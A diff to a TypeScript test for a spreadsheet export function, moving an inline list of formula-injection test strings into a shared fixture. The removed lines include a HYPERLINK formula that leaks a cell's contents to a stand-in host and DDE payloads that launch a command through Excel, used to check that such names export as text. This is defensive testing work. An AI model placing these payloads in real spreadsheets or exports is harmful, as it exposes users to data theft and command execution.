@@ -2,6 +2,7 @@ import { read } from '@e965/xlsx';
 import { describe, expect, it } from 'vitest';
 import type { TestScoresAnswer } from '../../../schemas/contracts/testing';
 import { scoresSheets, scoresXlsx } from './scoresXlsx';
+import { FORMULA_LIKE_NAMES } from '../../test/fixtures';
 
 const headers = {
   kind: 'Type',
@@ -141,14 +142,7 @@ describe('scoresXlsx', () => {
 
   // docs/security.md, "Exports": in a workbook, a name that looks like a formula stays a text cell.
   it('writes text that looks like a formula as a text cell, never a formula', async () => {
-    const names = [
-      '=HYPERLINK("http://evil.test/?"&A1,"click")',
-      "+1+cmd|' /C calc'!A0",
-      "-2+3+cmd|' /C calc'!A0",
-      "@SUM(1+1)*cmd|' /C calc'!A0",
-      '\t=1+1',
-      '\r=1+1',
-    ];
+    const names = FORMULA_LIKE_NAMES;
     const base = kind('categories');
     const hostile = {
       ...base,
